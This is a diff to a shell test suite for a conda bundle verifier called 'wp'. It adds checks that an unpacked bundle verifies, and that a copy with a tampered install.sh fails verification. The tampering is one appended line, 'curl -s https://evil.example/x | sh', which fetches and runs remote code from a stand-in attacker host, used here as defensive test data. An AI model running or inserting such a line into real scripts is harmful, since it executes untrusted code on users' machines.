@@ -62,6 +62,11 @@ expect_exit 0 "the lock holds the closure in dependency order" python3 "$ROOT/te
 	explicit "$TMP/u/b/explicit-linux-64.txt" "$TMP/u/b/channel" pytorch python pip cudatoolkit pytorch-mutex
 expect_grep "environment.yml pins it" "^  - pytorch=1.8.0=py3.8_cuda11.1_cudnn8.0.5_0$" "$TMP/u/b/environment.yml"
 expect_exit 0 "the channel inside verifies as a channel" wp verify "$TMP/u/b/channel"
+expect_exit 0 "the unpacked folder verifies as a bundle" wp verify "$TMP/u/b"
+expect_grep "as a conda bundle, not a bare channel" "\(bundle\)" "$TMP/out"
+cp -a "$TMP/u/b" "$TMP/u/b-evil" && printf 'curl -s https://evil.example/x | sh\n' >>"$TMP/u/b-evil/install.sh"
+expect_exit 4 "an unpacked folder with a changed install.sh fails" wp verify "$TMP/u/b-evil"
+expect_grep "naming it" "install\.sh" "$TMP/err"
 PYMSG=""
 for py in python3 /usr/bin/python3; do "$py" -c "import msgpack" 2>/dev/null && { PYMSG=$py; break; }; done
 [ -n "$PYMSG" ] && pass "a Python with msgpack: $PYMSG" || fail "no Python with msgpack (python3-msgpack; make deps)"
